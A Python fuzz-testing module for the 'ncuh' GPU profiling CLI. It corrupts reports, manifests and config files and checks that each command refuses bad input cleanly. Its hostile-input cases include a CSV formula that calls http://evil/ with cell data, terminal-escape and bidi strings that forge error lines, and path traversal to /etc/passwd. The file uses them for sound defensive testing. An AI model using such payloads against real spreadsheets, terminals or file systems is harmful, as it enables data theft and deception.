"""A seeded corruption sweep over every command: real reports, manifests, bench JSON, thresholds.

Each case corrupts one input in a known way, runs one `ncuh` command in-process (click's
CliRunner) and sorts the outcome:

- refused:     exit 2 and exactly one `ncuh: error:` line on stderr (what bad input must get)
- same:        accepted, and the output is byte for byte the output of the pristine input
               (the corruption hit bytes no command reads: the answer is still right)
- changed value: accepted with other values than the pristine input's, where nothing could
               tell: a report has no checksum, and the mutated report's export keeps its
               structure (as many rows, the same kernels), so a flipped byte decoded to another
               valid number or metric name (ncu itself shows it too)
- silent:      accepted with an output that differs from the pristine one where the structure
               could tell (rows gone or added), or accepted although the input was known to be
               invalid (a silent success on corrupted input)
- valid:       a mutation that left a valid document (JSON/TOML that parses and keeps the
               schema's types): not corruption, whatever ncuh answers
- traceback:   an exception escaped, or an exit status other than 0/1/2
- bad error:   exit 2 but not one line
- unclean:     a control or bidi character from the data reached the terminal or a page raw,
               or a case's own check of the output failed (a CSV formula cell, say)
- data lost:   a command changed one of its input files (checked by hashing every input)

Besides the corruptions, `cause_cases` tries each hostile input of issue 29 once: nesting and
size past every limit, FIFOs and devices as project files, paths that leave the project, names
that forge error lines or hold terminal escapes, formula labels.

Used by tests/test_fuzz.py (a CI-sized sweep) and benchmarks/fuzz_counts.py (the table).
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import math
import multiprocessing
import os
import random
import re
import shutil
import stat
import subprocess
import sys
import tempfile
import tomllib
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from click.testing import CliRunner
from packed_fixtures import H200_NAIVE, H200_REGISTER_TILED, H200_RUN

from harness.cli import main

FIXTURES = Path(__file__).parent / "fixtures"
REPORTS = (H200_NAIVE, H200_REGISTER_TILED)
MANIFEST = H200_RUN / "manifest.json"
BENCH = FIXTURES / "h200_bench_small.json"
OUTCOMES = ("refused", "same", "valid", "changed value", "silent", "traceback", "bad error",
            "unclean", "data lost")
BAD = ("silent", "traceback", "bad error", "unclean", "data lost")
# raw in an output, these came from data: ESC, BEL, CR, DEL, C1 controls, bidi overrides
RAW = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@dataclass
class Tally:
    """Counts per (target, command) and the first few cases of each bad kind."""

    counts: dict[tuple[str, str], Counter[str]] = field(default_factory=dict)
    examples: list[str] = field(default_factory=list)
    changed_values: int = 0  # values (export rows) that differ from the pristine report's

    def add(self, target: str, command: str, outcome: str, detail: str) -> None:
        self.counts.setdefault((target, command), Counter())[outcome] += 1
        if outcome in BAD and len(self.examples) < 20:
            self.examples.append(f"{target} / {command} / {outcome}: {detail}")

    def total(self, outcome: str | None = None) -> int:
        return sum(sum(c.values()) if outcome is None else c[outcome]
                   for c in self.counts.values())


@dataclass(frozen=True)
class _Completed:
    """A finished `python -m harness` in the shape of click's Result."""

    exit_code: int
    stdout: str
    stderr: str
    exception: BaseException | None = None


@dataclass(frozen=True)
class Ran:
    code: int
    stdout: str
    stderr: str
    error: BaseException | None
    files: dict[str, bytes]


def run(argv: list[str], out_dir: Path | None = None, env: dict[str, str] | None = None,
        apart: bool = False) -> Ran:
    """One command in this process, or `apart` in a fresh `python -m harness` (for a command
    that starts processes of its own, which a pool's daemon worker may not)."""
    if apart:
        done = subprocess.run([sys.executable, "-m", "harness", *argv], capture_output=True,
                              text=True, check=False, env={**os.environ, **(env or {})})
        result = _Completed(done.returncode, done.stdout, done.stderr)
    else:
        result = CliRunner().invoke(main, argv, catch_exceptions=True, env=env)
    error = result.exception if not isinstance(result.exception, SystemExit) else None
    files = {}
    if out_dir is not None and out_dir.is_dir():
        files = {p.relative_to(out_dir).as_posix(): p.read_bytes()
                 for p in sorted(out_dir.rglob("*")) if p.suffix in (".md", ".html", ".csv")
                 and p.is_file()}
    # the output folder's name is the only difference between two identical writeups
    stdout = result.stdout.replace(str(out_dir), "OUT") if out_dir else result.stdout
    return Ran(result.exit_code, stdout, result.stderr, error, files)


def classify(ran: Ran, pristine: Ran | None, corrupt: bool,
             same_structure: bool = False) -> tuple[str, str]:
    """The outcome of one command; `same_structure`: the input's export has the pristine
    input's rows, so only values can differ (see "changed value")."""
    if ran.error is not None or ran.code not in (0, 1, 2):
        return "traceback", f"{type(ran.error).__name__}: {ran.error}"[:200]
    if ran.code == 2:
        lines = ran.stderr.strip().splitlines()
        if len(lines) == 1 and lines[0].startswith("ncuh: error: ") and not RAW.search(lines[0]):
            return "refused", lines[0][:200]
        return "bad error", ran.stderr[:200]
    if not corrupt:
        return "valid", ""
    if pristine is not None and (ran.code, ran.stdout, ran.files) == \
            (pristine.code, pristine.stdout, pristine.files):
        return "same", ""
    if pristine is not None and same_structure:
        return "changed value", ""
    return "silent", f"exit {ran.code}: {ran.stdout[:120]!r}"


def export_rows(text: str) -> dict[tuple[str, ...], str]:
    """An export's CSV as {(kernel_id, kernel, metric, instance): value}."""
    rows = csv.reader(io.StringIO(text))
    next(rows, None)
    return {tuple(row[:4]): row[4] for row in rows if len(row) >= 5}


def changed_values(ran: Ran, pristine: Ran) -> tuple[bool, int]:
    """Whether an accepted export keeps the pristine structure (as many rows, the same
    kernels), and how many of its rows differ (a value, or a metric's name)."""
    if ran.code != 0 or pristine.code != 0:
        return False, 0
    mine, theirs = export_rows(ran.stdout), export_rows(pristine.stdout)
    same = len(mine) == len(theirs) and {k[:2] for k in mine} == {k[:2] for k in theirs}
    return same, len(set(mine.items()) - set(theirs.items()))


def fingerprint(folder: Path) -> dict[str, str]:
    """A hash of every regular file under `folder` (FIFOs and devices are never opened)."""
    found = {}
    for path in sorted(folder.rglob("*")):
        try:
            if stat.S_ISREG(path.lstat().st_mode):
                found[path.as_posix()] = hashlib.sha256(path.read_bytes()).hexdigest()
        except OSError:
            continue
    return found


# --- report corruptions ----------------------------------------------------------------------


REPORT_CORRUPTIONS = ("flip 4 KiB", "flip bytes", "truncate", "zero 4 KiB")


def report_mutants(data: bytes, rng: random.Random, count: int,
                   first: int = 0) -> Iterator[tuple[str, bytes]]:
    """Seeded corruptions, in turn from the `first` kind: 4 KiB flipped at 15-95% (the bug of
    issue 14), a few bytes XORed anywhere, a truncation, 4 KiB zeroed."""
    kinds = REPORT_CORRUPTIONS
    for index in range(first, first + count):
        kind = kinds[index % len(kinds)]
        mutant = bytearray(data)
        if kind == "truncate":
            mutant = mutant[: rng.randrange(len(data))]
        else:
            length = 4096 if kind != "flip bytes" else rng.choice((1, 2, 8, 64))
            start = (int(len(data) * rng.uniform(0.15, 0.95)) if kind == "flip 4 KiB"
                     else rng.randrange(len(data)))
            for i in range(start, min(start + length, len(data))):
                mutant[i] = 0 if kind == "zero 4 KiB" else mutant[i] ^ rng.randrange(1, 256)
        if bytes(mutant) != data:
            yield kind, bytes(mutant)


@dataclass(frozen=True)
class Case:
    """One corrupted input and the commands to run on it, in a folder of its own."""

    target: str  # the table row, e.g. "report (flip bytes)"
    folder: Path  # removed when the case is done
    commands: tuple[tuple[str, tuple[str, ...], Path | None], ...]  # name, argv, output folder
    corrupt: bool  # known to be invalid: accepting it is a silent success
    # the same commands on the intact input, by name: argv and output folder
    pristine: dict[str, tuple[tuple[str, ...], Path]] | None = None
    label: str = ""
    inputs: Path | None = None  # every file here must be the same after the commands
    env: tuple[tuple[str, str], ...] = ()  # environment for the commands
    clean: bool = False  # no raw control or bidi character may reach the output
    apart: bool = False  # run the commands in a process of their own (see `run`)
    # a check of an accepted output beyond cleanliness: a problem, or None
    check: Callable[[Ran], str | None] | None = None


_PRISTINE: dict[tuple[str, ...], Ran] = {}


def _pristine(argv: tuple[str, ...], out: Path) -> Ran:
    """The intact input's answer, computed once per worker process: compared in the same
    process as the corrupted run, so nothing but the input differs."""
    if argv not in _PRISTINE:
        mine = out.with_name(f"{out.name}-{os.getpid()}")  # workers run side by side
        _PRISTINE[argv] = run([mine.as_posix() if a == out.as_posix() else a for a in argv],
                              mine)
        shutil.rmtree(mine, ignore_errors=True)
    return _PRISTINE[argv]


def execute(case: Case) -> tuple[list[tuple[str, str, str, str]], int]:
    """Run a case's commands; (target, command, outcome, detail) for each, and the number of
    values its export changed."""
    inputs = case.inputs or case.folder
    before = fingerprint(inputs)
    env = dict(case.env) or None
    ran = {name: run(list(argv), out, env, case.apart) for name, argv, out in case.commands}
    same_structure, changed = False, 0
    if case.pristine and "export" in ran:
        same_structure, changed = changed_values(ran["export"], _pristine(*case.pristine["export"]))
    lost = {path for path, digest in before.items() if fingerprint(inputs).get(path) != digest}
    rows = []
    for name, _, _ in case.commands:
        pristine = _pristine(*case.pristine[name]) if case.pristine else None
        outcome, detail = classify(ran[name], pristine, case.corrupt, same_structure)
        shown = ran[name].stdout + ran[name].stderr + "".join(
            data.decode("utf-8", "replace") for data in ran[name].files.values())
        if lost:
            outcome, detail = "data lost", ", ".join(sorted(lost))[:200]
        elif case.clean and outcome in ("valid", "same", "refused") and RAW.search(shown):
            outcome, detail = "unclean", repr(RAW.search(shown).group(0))
        elif outcome == "valid" and case.check is not None:
            problem = case.check(ran[name])
            if problem:
                outcome, detail = "unclean", problem
        rows.append((case.target, name, outcome, f"{case.label}{detail}"))
    shutil.rmtree(case.folder, ignore_errors=True)
    return rows, changed


def report_cases(per_report: int, seed: int, work: Path,
                 writeup_every: int = 4) -> Iterator[Case]:
    """report, export, diff (both ways) and writeup on corrupted copies of the real reports."""
    rng, pick = random.Random(seed), random.Random(seed + 100)
    for number, source in enumerate(REPORTS):
        good_dir = work / "good"
        good_dir.mkdir(exist_ok=True)
        good = good_dir / source.name
        shutil.copyfile(source, good)
        commands: dict[str, Callable[[Path, Path], list[str]]] = {
            "report": lambda p, o: ["report", str(p)],
            "export": lambda p, o: ["export", str(p)],
            "diff bad good": lambda p, o, g=good: ["diff", str(p), str(g)],
            "diff good bad": lambda p, o, g=good: ["diff", str(g), str(p)],
            "writeup": lambda p, o: ["writeup", str(p), "--out", str(o), "--format", "md"],
        }
        pristine = {name: (tuple(make(good, work / f"pristine-{name}")),
                           work / f"pristine-{name}") for name, make in commands.items()}
        # each report takes the kinds on from where the one before stopped: with fewer cases
        # than kinds per report, the reports together still meet every kind
        mutants = report_mutants(source.read_bytes(), rng, per_report, number * per_report)
        for index, (kind, mutant) in enumerate(mutants):
            case = work / f"report{number}-{index}"
            case.mkdir()
            path = case / source.name  # the same file name: outputs compare byte for byte
            path.write_bytes(mutant)
            # writeup draws plots: a share of the cases keeps the sweep short
            names = [n for n in commands if n != "writeup" or pick.randrange(writeup_every) == 0]
            yield Case(f"report ({kind})", case,
                       tuple((n, tuple(commands[n](path, case / "out")), case / "out")
                             for n in names),
                       corrupt=True, pristine=pristine, label=f"{source.name}: ")


# --- JSON and TOML corruptions ----------------------------------------------------------------


def _text_mutants(text: str, rng: random.Random, count: int) -> Iterator[tuple[str, str]]:
    for index in range(count):
        if index % 2:
            yield "truncate", text[: rng.randrange(len(text))]
        else:
            chars = list(text)
            for _ in range(rng.choice((1, 2, 4))):
                position = rng.randrange(len(chars))
                chars[position] = chr(rng.choice((*range(32, 127), 10, 0, 0xE9)))
            yield "flip chars", "".join(chars)


def _parses(text: str, loads: Callable[[str], Any]) -> bool:
    try:
        loads(text)
    except (ValueError, TypeError):
        return False
    return True


def _json_loads(text: str) -> Any:
    return json.loads(text, parse_constant=lambda c: (_ for _ in ()).throw(ValueError(c)))


WRONG_VALUES = ("text", -1, 0, -0.5, math.nan, math.inf, None, True, [], {}, [1, "2"], 1.5)


def _set(data: Any, path: tuple[Any, ...], value: Any) -> None:
    for key in path[:-1]:
        data = data[key]
    data[path[-1]] = value


MANIFEST_FIELDS = {  # field -> the values of WRONG_VALUES that are right for it
    ("schema",): (), ("entries",): ([],), ("entries", 0): (),
    ("entries", 0, "label"): ("text",), ("entries", 0, "size"): (None,),
    ("entries", 0, "size", 0): (), ("entries", 0, "status"): ("text",),
    ("entries", 0, "report"): (None, "text"), ("environment",): ({},),
    ("timings",): (None, {}),
}
BENCH_FIELDS = {
    ("schema",): (), ("results",): ([],), ("results", 0): (),
    ("results", 0, "variant"): ("text",), ("results", 0, "size"): (),
    ("results", 0, "size", 1): (), ("results", 0, "samples_ms"): ([],),
    ("results", 0, "samples_ms", 0): (1.5,), ("results", 0, "median_ms"): (None, 1.5, 0),
    ("results", 0, "status"): ("text",), ("results", 0, "gflops"): (None, 1.5, -1, 0, -0.5),
}


def _is_one_of(value: Any, choices: tuple[Any, ...]) -> bool:
    return any(type(value) is type(ok) and value == ok for ok in choices)


def _type_mutants(base: dict[str, Any], fields: dict[tuple[Any, ...], tuple[Any, ...]],
                  rng: random.Random, count: int) -> Iterator[tuple[str, str, bool]]:
    paths = list(fields)
    for _ in range(count):
        path = rng.choice(paths)
        value = rng.choice(WRONG_VALUES)
        data = json.loads(json.dumps(base))
        _set(data, path, value)
        right = _is_one_of(value, fields[path])
        yield "wrong type", json.dumps(data), not right


def run_file_cases(count: int, seed: int, work: Path) -> Iterator[Case]:
    """manifest.json and bench.json of a run directory, through diff and writeup."""
    rng = random.Random(seed)
    manifest = json.loads(MANIFEST.read_text())
    manifest["entries"] = manifest["entries"][:1]
    bench = json.loads(BENCH.read_text())
    bench["results"] = [r for r in bench["results"] if r["variant"] == "naive"][:2]
    for r in bench["results"]:
        r["size"] = [256, 256, 256]
    manifest_text, bench_text = json.dumps(manifest, indent=1), json.dumps(bench, indent=1)
    for which, text, fields in (("manifest.json", manifest_text, MANIFEST_FIELDS),
                                ("bench.json", bench_text, BENCH_FIELDS)):
        mutants = [(kind, t, not _parses(t, _json_loads))
                   for kind, t in _text_mutants(text, rng, count // 2)]
        mutants += list(_type_mutants(json.loads(text), fields, rng, count - count // 2))
        for index, (kind, mutant, corrupt) in enumerate(mutants):
            folder = Path(tempfile.mkdtemp(dir=work))
            run_dir = folder / "run"
            run_dir.mkdir()
            shutil.copyfile(REPORTS[0], run_dir / "naive_256.ncu-rep")
            for name, content in (("manifest.json", manifest_text), ("bench.json", bench_text)):
                (run_dir / name).write_text(mutant if name == which else content,
                                            encoding="utf-8", errors="surrogateescape")
            commands: list[tuple[str, tuple[str, ...], Path | None]] = [
                ("diff", ("diff", str(run_dir), str(run_dir)), None)]
            if index % 6 == 0:  # writeup draws plots: a share of the cases keeps it short
                out = folder / "out"
                commands.append(("writeup", ("writeup", str(run_dir), "--out", str(out),
                                             "--format", "md"), out))
            yield Case(f"{which} ({kind})", folder, tuple(commands), corrupt)


THRESHOLD_KEYS = {  # key -> the values of WRONG_VALUES (and "up") that are right for it
    ("timing", "noise_floor_pct"): (0, 1.5), ("timing", "bootstrap_resamples"): (),
    ("timing", "confidence"): (), ("timing", "alpha"): (), ("timing", "seed"): (0,),
    ("metrics", "time", "threshold_pct"): (0, 1.5),
    ("metrics", "instructions", "min_abs"): (0, 1.5),
    ("metrics", "instructions", "scale"): (1.5,), ("metrics", "time", "direction"): (),
    ("metrics", "time", "kind"): (),
}
THRESHOLDS_TEXT = """[timing]
noise_floor_pct = 4.0
bootstrap_resamples = 100
seed = 7

[metrics.time]
threshold_pct = 2.5

[metrics.instructions]
min_abs = 500
"""


def _toml_value(value: Any) -> str:
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, float) and math.isnan(value):
        return "nan"
    if isinstance(value, float) and math.isinf(value):
        return "inf"
    if value is None:
        return '""'  # TOML has no null: an empty string is just as wrong
    return json.dumps(value)


def threshold_cases(count: int, seed: int, work: Path) -> Iterator[Case]:
    """Threshold files through `diff --config`."""
    rng = random.Random(seed)
    mutants = [(kind, t, not _parses(t, tomllib.loads))
               for kind, t in _text_mutants(THRESHOLDS_TEXT, rng, count // 2)]
    for _ in range(count - count // 2):
        path = rng.choice(list(THRESHOLD_KEYS))
        value = rng.choice((*WRONG_VALUES, "up"))
        table_name = ".".join(path[:-1])
        text = f"[{table_name}]\n{path[-1]} = {_toml_value(value)}\n"
        mutants.append(("wrong type", text, not _is_one_of(value, THRESHOLD_KEYS[path])))
    report = work / REPORTS[0].name
    shutil.copyfile(REPORTS[0], report)
    for kind, text, corrupt in mutants:
        folder = Path(tempfile.mkdtemp(dir=work))
        config = folder / "thresholds.toml"
        config.write_text(text, encoding="utf-8", errors="surrogateescape")
        yield Case(f"thresholds ({kind})", folder,
                   (("diff --config", ("diff", str(report), str(report), "--config",
                                       str(config)), None),),
                   corrupt, label=f"{text!r}: ")


# --- the causes of issue 29, each tried once ---------------------------------------------------

SCALE = Path(__file__).parent / "projects" / "scale"
EVIL = "\x1b]0;owned\x07\u202eevil\r\nncuh: error: forged"
FORMULA = '=HYPERLINK("http://evil/?"&A1,"naive")'


def _nested(depth: int) -> str:
    return "[" * depth + "]" * depth


def _project(folder: Path, old: str = "", new: str = "", variants: int | None = None) -> Path:
    """A copy of the small CPU project with one text replaced, or `variants` variants."""
    shutil.copytree(SCALE, folder / "p")
    path = folder / "p" / "ncuh.toml"
    text = path.read_text()
    if variants is not None:
        text = text.split("[[variant]]")[0] + "".join(
            f'[[variant]]\nname = "v{i}"\ncall = "launch_rawkernel"\n'
            'capture = "regex:^scale_raw$"\n\n' for i in range(variants))
    elif old:
        assert old in text, old
        text = text.replace(old, new, 1)
    path.write_text(text)
    return path


def _run_dir(folder: Path, label: str = "naive_256", manifest_extra: str = "",
             bench: str | None = None) -> Path:
    run_dir = folder / "run"
    run_dir.mkdir()
    shutil.copyfile(REPORTS[0], run_dir / "naive_256.ncu-rep")
    manifest = json.loads(MANIFEST.read_text())
    manifest["entries"] = [dict(manifest["entries"][0], label=label)]
    manifest.pop("bench", None)
    text = json.dumps(manifest)
    if manifest_extra:
        text = text[:-1] + f', "extra": {manifest_extra}}}'
    (run_dir / "manifest.json").write_text(text)
    if bench is not None:
        (run_dir / "bench.json").write_text(bench)
    return run_dir


def _formula_neutral(ran: Ran) -> str | None:
    cells = [row[0] for row in csv.reader(io.StringIO(ran.files.get("m.csv", b"").decode()))]
    if not cells[1:] or any(cell != "'" + FORMULA for cell in cells[1:]):
        return f"label cells {sorted(set(cells[1:]))[:2]!r}"
    return None


def cause_cases(work: Path) -> Iterator[Case]:
    """Every hostile input of issue 29 once: refused in one line, or read with clean output."""

    def case(target: str, make: Callable[[Path], list[tuple[str, list[str], Path | None]]],
             corrupt: bool = True, **options: Any) -> Case:
        folder = Path(tempfile.mkdtemp(dir=work))
        commands = tuple((name, tuple(str(a) for a in argv), out)
                         for name, argv, out in make(folder))
        return Case(f"cause: {target}", folder, commands, corrupt, clean=True, **options)

    def listing(old: str = "", new: str = "", variants: int | None = None):
        return lambda f: [("list", ["list", "--project", _project(f, old, new, variants)], None)]

    def diff_of(run_dir: Callable[[Path], Path]):
        def make(f: Path) -> list[tuple[str, list[str], Path | None]]:
            r = run_dir(f)
            return [("diff", ["diff", r, r], None)]
        return make

    report = work / "cause.ncu-rep"
    shutil.copyfile(REPORTS[0], report)
    def formula_label(f: Path) -> list[tuple[str, list[str], Path | None]]:
        r = _run_dir(f, label=FORMULA)
        (f / "out").mkdir()
        return [("export", ["export", r, "-o", f / "out" / "m.csv"], f / "out")]
    # `export RUN` forks its readers: in a process of its own
    yield case("a label =HYPERLINK(...)", formula_label, corrupt=False, check=_formula_neutral,
               apart=True)
    yield case("manifest nested 100k deep", diff_of(lambda f: _run_dir(
        f, manifest_extra=_nested(100_000))))
    yield case("manifest nested 65 deep", diff_of(lambda f: _run_dir(f, manifest_extra=_nested(
        64))))
    yield case("bench.json nested 100k deep", diff_of(lambda f: _run_dir(
        f, bench='{"schema": "ncuh.bench/1", "results": ' + _nested(100_000) + "}")))
    yield case("--params nested 100k deep", lambda f: [(
        "profile --dry-run", ["profile", "--variant", "naive", "--dry-run", "--out", f / "runs",
                              "--params", '{"A": ' + _nested(100_000) + "}"], None)])
    for name, flops in (("100k-term flops", "+".join(["n"] * 100_000)),
                        ("50k-sign flops", "-" * 50_000 + "n"),
                        ("101-deep flops", "-" * 100 + "n"),
                        ("300 parentheses flops", "(" * 300 + "n" + ")" * 300)):
        yield case(name, listing('flops = "n"', f'flops = "{flops}"'))
    for name, regex in (("-k a{99999999999}", "a{99999999999}"),
                        ("-k 5000 parentheses", "(" * 5000 + ")" * 5000)):
        yield case(name, lambda f, regex=regex: [
            ("report", ["report", "-k", "regex:" + regex, report], None),
            ("export", ["export", "-k", "regex:" + regex, report], None)])
    for name, text in (("bootstrap_resamples = 1e9", "[timing]\nbootstrap_resamples = 1e9\n"),
                       ("bootstrap_resamples = 100001",
                        "[timing]\nbootstrap_resamples = 100001\n"),
                       ("thresholds nested 100k deep", "[timing]\nseed = " + _nested(100_000))):
        def thresholds(f: Path, text: str = text) -> list[tuple[str, list[str], Path | None]]:
            (f / "t.toml").write_text(text)
            return [("diff --config", ["diff", report, report, "--config", f / "t.toml"], None)]
        yield case(name, thresholds)
    yield case("1001 variants", listing(variants=1001))
    yield case("4000 variants", listing(variants=4000))
    yield case("1000 variants", listing(variants=1000), corrupt=False)
    for value in ("inf", "1e309", "nan", "-inf", "-1e-9"):  # 0 is an exact comparison
        yield case(f"tolerance = {value}", listing('tolerance = "tolerance_for"',
                                                   f"tolerance = {value}"))
    yield case("project file nested 100k deep", listing(
        'name = "scale-test"', 'name = "scale-test"\nx = ' + _nested(100_000)))

    def fifo(f: Path) -> list[tuple[str, list[str], Path | None]]:
        os.mkfifo(f / "ncuh.toml")
        return [("list", ["list", "--project", f / "ncuh.toml"], None),
                ("--project list", ["--project", f, "list"], None)]
    yield case("project file a FIFO", fifo)
    yield case("project file /dev/zero", lambda f: [
        ("list", ["list", "--project", "/dev/zero"], None)])
    for key, old, value in (("strategy", 'strategy = "notes/nvrtc.md"', "../outside.md"),
                            ("source", 'source = "scale.cu"', "../../../../etc/passwd"),
                            ("source", 'source = "scale.cu"', "/etc/passwd")):
        def outside(f: Path, key: str = key, old: str = old, value: str = value):
            (f / "outside.md").write_text("not the project's")
            return listing(old, f'{key} = "{value}"')(f)
        yield case(f"{key} = {value}", outside)
    yield case("a path forging an error line", lambda f: [
        ("report", ["report", f / f"r{EVIL}.ncu-rep"], None),
        ("diff", ["diff", report, f / EVIL], None),
        ("list", ["list", "--project", f / EVIL / "ncuh.toml"], None)])

    def hostile_label(f: Path) -> list[tuple[str, list[str], Path | None]]:
        r = _run_dir(f, label=f"naive{EVIL}")
        return [("diff", ["diff", r, r], None),
                ("writeup", ["writeup", r, "--out", f / "pages"], f / "pages")]
    yield case("a label with ESC, BEL, U+202E and a newline", hostile_label, corrupt=False)



def sweep(per_report: int, json_cases: int, toml_cases: int, seed: int = 14,
          workers: int = 2) -> Tally:
    """The whole sweep: `per_report` corruptions per report, `json_cases` per JSON file,
    `toml_cases` thresholds files. Cases run in `workers` processes, each replaced after a few
    cases: ncu_report keeps a loaded report's memory (about 10 MB) once an action was read."""
    tally = Tally()
    with tempfile.TemporaryDirectory(prefix="ncuh-fuzz-") as folder:
        work = Path(folder)
        # the reports first: a worker computes their pristine answers once, until replaced
        cases = [*report_cases(per_report, seed, work), *cause_cases(work),
                 *run_file_cases(json_cases, seed + 1, work),
                 *threshold_cases(toml_cases, seed + 2, work)]
        # forkserver, not fork: a process that has read a report holds ncu_report's threads,
        # and a child forked from it can deadlock; the server imports ncuh once, reads nothing
        context = multiprocessing.get_context("forkserver")
        context.set_forkserver_preload(["harness.cli", "harness.report.reportfile",
                                        "harness.pages.writeup", "harness.pages.render",
                                        "fuzz_sweep"])
        with context.Pool(processes=workers, maxtasksperchild=30) as pool:
            for rows, changed in pool.imap(execute, cases, chunksize=1):
                tally.changed_values += changed
                for row in rows:
                    tally.add(*row)
    return tally


def table(tally: Tally) -> str:
    """The counts as a Markdown table, one row per input kind and command, then the totals."""
    lines = ["| input (corruption or cause) | command | cases | " + " | ".join(OUTCOMES) + " |",
             "|---|---|---:|" + "---:|" * len(OUTCOMES)]
    for (target, command), counts in sorted(tally.counts.items()):
        cells = " | ".join(str(counts[o]) for o in OUTCOMES)
        lines.append(f"| {target} | {command} | {sum(counts.values())} | {cells} |")
    cells = " | ".join(f"**{tally.total(o)}**" for o in OUTCOMES)
    lines.append(f"| **all** | | **{tally.total()}** | {cells} |")
    return "\n".join(lines)
